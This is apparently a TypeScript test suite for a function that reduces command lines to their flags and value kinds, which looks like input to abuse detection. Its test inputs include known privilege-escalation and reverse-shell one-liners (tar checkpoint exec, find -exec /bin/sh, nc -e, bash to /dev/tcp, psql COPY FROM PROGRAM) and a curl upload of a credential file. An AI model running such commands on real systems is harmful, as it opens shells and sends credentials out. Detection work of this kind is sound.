import { describe, expect, it } from 'vitest';
import { argumentShape, valueClass } from './argument-shape.ts';

const shape = (line: string, program = `/usr/bin/${line.split(' ')[0]}`) => argumentShape(program, line.split(' '));

describe('the shape of a command line', () => {
  it('is its flags and the kinds of its values', () => {
    expect(shape('tar -xzf /srv/backup/2024-01-01.tgz -C /srv/app')).toEqual([
      '-xzf',
      '/srv/backup/*.tgz',
      '-C',
      '/srv/app',
    ]);
    expect(shape('curl --max-time 5 --header x http://web.shop:80/a?b=c')).toEqual([
      '--max-time',
      '#',
      '--header',
      'x',
      'http://web.shop',
    ]);
    expect(shape('gcc -O2 -DX=1 -I../include -c a.c -o /tmp/ccAbCd12.o')).toEqual([
      '-O*',
      '-D*',
      '-I*',
      '-c',
      '*.c',
      '-o',
      '/tmp/*.o',
    ]);
  });

  it('is the same when the same is done with other values', () => {
    expect(shape('sort -k 2,2 /tmp/tmp.khHcctMjKF/sales.csv')).toEqual(
      shape('sort -k 1,1 /tmp/tmp.mbXpzKivaH/sales.csv'),
    );
    expect(shape('kill -9 123')).toEqual(shape('kill -15 4567'));
  });

  it('names what tells an abuse', () => {
    expect(shape('tar cf x.tar --checkpoint-action=exec=/bin/sh')).toContain('--checkpoint-action=exec=');
    expect(shape('find / -exec /bin/sh -p ;')).toEqual(expect.arrayContaining(['-exec', '/bin/sh']));
    expect(shape('nc 10.0.3.7 4444 -e /bin/sh')).toEqual(['10.0.3.0/24', '#', '-e', '/bin/sh']);
    expect(
      argumentShape('/usr/bin/python3', ['python3', '-c', 'import socket,os; s=socket.socket(); os.system("id")']),
    ).toEqual(['-c', 'code socket system']);
    expect(argumentShape('/usr/bin/psql', ['psql', '-c', "COPY t FROM PROGRAM 'id'"])).toEqual([
      '-c',
      'code copy program copy',
    ]);
    expect(shape('curl --data-binary @/etc/shop/pgpass')).toContain('@/etc/shop/pgpass');
    expect(
      argumentShape('/bin/sh', ['sh', '-c', `id >    /srv/x; echo ${'copy '.repeat(800)}>${' '.repeat(4000)}`]),
    ).toEqual(expect.arrayContaining(['run id', 'run echo', 'run redirect']));
  });

  it('of a shell is the commands that its script calls', () => {
    const run = (script: string) => argumentShape('/bin/sh', ['sh', '-c', script]);
    expect(run('df -h | grep tmp && A=1 exec /usr/bin/awk "{print}"')).toEqual(['-c', 'run df', 'run grep', 'run awk']);
    expect(run('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')).toEqual(['-c', 'run bash', 'run /dev/tcp redirect']);
    expect(run('for f in a b; do rm "$f"; done; X=$(id)')).toEqual(['-c', 'run rm', 'run id']);
  });

  it('is bounded', () => {
    const pieces = argumentShape('/bin/x', [
      'x',
      ...Array.from({ length: 10_000 }, (_, i) => `--${'abcdefghij'[i % 10]}${'klmnopqrst'[Math.floor(i / 10) % 10]}x`),
    ]);
    expect(pieces.length).toBe(24);
    expect(argumentShape('/bin/sh', ['sh', '-c', 'a;'.repeat(100_000)]).length).toBeLessThanOrEqual(24);
  });
});

describe('the kind of a value', () => {
  it.each([
    ['5', '#'],
    ['10M', '#'],
    ['10.0.3.7:4444', '10.0.3.0/24:4444'],
    ['.c', '*.c'],
    ['HOME=/root', 'HOME='],
    ['main', 'main'],
    ['aGVsbG8gd29ybGQK', '*'],
    ['report.csv', '*.csv'],
    ['two words', '*'],
  ])('%s is %s', (value, expected) => {
    expect(valueClass(value)).toBe(expected);
  });
});
